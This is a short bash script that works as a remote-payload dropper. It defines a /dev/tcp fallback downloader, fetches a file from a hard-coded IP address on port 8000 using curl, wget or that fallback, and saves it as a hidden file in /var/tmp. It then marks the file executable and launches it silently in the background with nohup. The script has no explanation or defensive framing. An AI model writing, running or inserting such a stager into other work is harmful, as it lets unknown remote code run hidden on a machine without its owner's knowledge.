#!/bin/bash
__dl() {
  read proto server path <<< "$(echo ${1//// })"
  DOC=/${path// //}; HOST=${server//:*}; PORT=${server//*:}
  exec 3<>/dev/tcp/${HOST}/${PORT:-80}
  printf 'GET %s HTTP/1.0\r\nHost: %s\r\n\r\n' "$DOC" "$HOST" >&3
  (while read line; do [[ "$line" == $'\r' ]] && break; done && cat) <&3
  exec 3>&-
}
U=http://198.51.100.90:8000/agent
if command -v curl >/dev/null; then curl -s $U -o /var/tmp/.agent
elif command -v wget >/dev/null; then wget -q $U -O /var/tmp/.agent
else __dl $U > /var/tmp/.agent; fi
chmod +x /var/tmp/.agent && nohup /var/tmp/.agent >/dev/null 2>&1 &
